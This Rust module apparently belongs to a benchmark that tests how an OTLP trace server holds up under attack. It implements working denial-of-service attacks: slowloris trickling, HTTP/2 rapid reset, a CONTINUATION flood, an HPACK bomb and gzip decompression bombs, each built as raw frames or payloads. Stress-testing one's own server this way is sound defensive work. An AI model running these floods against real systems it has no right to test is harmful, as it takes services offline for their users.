//! The attackers. Each goes on until it is aborted, and connects anew whenever the server has thrown it out.

use std::io::Write;
use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinHandle;

pub struct Attack {
    pub name: &'static str,
    pub start: fn(SocketAddr) -> Vec<JoinHandle<()>>,
}

/// The first is none: what the others are measured against.
pub const ATTACKS: &[Attack] = &[
    Attack { name: "none", start: |_| Vec::new() },
    Attack { name: "2,000 idle connections", start: |to| trickling(to, 2000, b"") },
    Attack {
        name: "headers a byte at a time, 2,000 connections",
        start: |to| trickling(to, 2000, b"POST /v1/traces HTTP/1.1\r\nhost: x\r\nx-slow: "),
    },
    Attack {
        name: "bodies of 64 MiB a byte at a time, 2,000 connections",
        start: |to| {
            let head = b"POST /v1/traces HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-protobuf\r\n\
                content-length: 67108864\r\n\r\n";
            trickling(to, 2000, head)
        },
    },
    Attack { name: "rapid reset, 8 connections", start: |to| repeating(to, 8, rapid_reset()) },
    Attack { name: "CONTINUATION without end, 8 connections", start: |to| repeating(to, 8, continuations()) },
    Attack { name: "HPACK bomb, 8 connections", start: |to| repeating(to, 8, hpack_bomb()) },
    Attack { name: "gzip bombs of 65 MiB, 8 connections", start: |to| repeating(to, 8, gzip_bomb(65)) },
    Attack { name: "gzip of 60 MiB that is taken, 8 connections", start: |to| repeating(to, 8, gzip_bomb(60)) },
];

/// Opens connections, sends the same on each, and then a byte a second.
fn trickling(to: SocketAddr, count: usize, head: &'static [u8]) -> Vec<JoinHandle<()>> {
    (0..count).map(|_| tokio::spawn(keep_trickling(to, head))).collect()
}

async fn keep_trickling(to: SocketAddr, head: &'static [u8]) {
    loop {
        trickle(to, head).await;
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// One connection until the server closes it.
async fn trickle(to: SocketAddr, head: &[u8]) {
    let Ok(mut stream) = TcpStream::connect(to).await else { return };
    if head.is_empty() {
        // Says nothing at all.
        let _ = stream.read(&mut [0; 64]).await;
        return;
    }
    let mut next = head;
    while stream.write_all(next).await.is_ok() {
        tokio::time::sleep(Duration::from_secs(1)).await;
        next = b"a";
    }
}

/// Sends the bytes on a new connection as soon as the server is done with the one before.
fn repeating(to: SocketAddr, count: usize, bytes: Vec<u8>) -> Vec<JoinHandle<()>> {
    let bytes = Bytes::from(bytes);
    (0..count).map(|_| tokio::spawn(repeat(to, bytes.clone()))).collect()
}

async fn repeat(to: SocketAddr, bytes: Bytes) {
    loop {
        let Ok(stream) = TcpStream::connect(to).await else { continue };
        let (mut reading, mut writing) = stream.into_split();
        let sending = async { writing.write_all(&bytes).await.is_ok() };
        let mut answer = [0; 4096];
        let receiving = async { while reading.read(&mut answer).await.is_ok_and(|read| read > 0) {} };
        let _ = tokio::time::timeout(Duration::from_secs(5), futures::future::join(sending, receiving)).await;
    }
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// `POST /` over http to the authority `x`, by HPACK's static table.
const REQUEST: [u8; 6] = [0x83, 0x86, 0x84, 0x41, 1, b'x'];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn rapid_reset() -> Vec<u8> {
    let mut sent = PREFACE.to_vec();
    for stream in (1..40_000).step_by(2) {
        sent.extend(frame(1, 5, stream, &REQUEST));
        sent.extend(frame(3, 0, stream, &8u32.to_be_bytes()));
    }
    sent
}

fn continuations() -> Vec<u8> {
    let field = [&[0, 1, b'a', 100], [b'v'; 100].as_slice()].concat();
    let mut sent = [PREFACE, &frame(1, 1, 1, &REQUEST)].concat();
    for _ in 0..20_000 {
        sent.extend(frame(9, 0, 1, &field));
    }
    sent
}

fn hpack_bomb() -> Vec<u8> {
    let value = [&[0x40, 1, b'a', 0x7f, 0xa1, 0x1e], [b'v'; 4000].as_slice()].concat();
    let mut sent = PREFACE.to_vec();
    for stream in (1..400).step_by(2) {
        sent.extend(frame(1, 5, stream, &[REQUEST.as_slice(), &value, &[0x80 | 62; 12_000]].concat()));
    }
    sent
}

/// A request with one unknown field of so many MiB, as a whole HTTP/1.1 request that asks to close.
fn gzip_bomb(mib: usize) -> Vec<u8> {
    let size = mib << 20;
    // Field 100, length-delimited; its length takes four bytes as a varint.
    let mut body = vec![0xa2, 0x06];
    body.extend((0..4).map(|at| (size >> (7 * at)) as u8 & 0x7f | if at < 3 { 0x80 } else { 0 }));
    body.resize(body.len() + size, 0);
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(&body).expect("to memory");
    let body = encoder.finish().expect("to memory");
    let head = format!(
        "POST /v1/traces HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-type: application/x-protobuf\r\n\
         content-encoding: gzip\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    [head.as_bytes(), &body].concat()
}
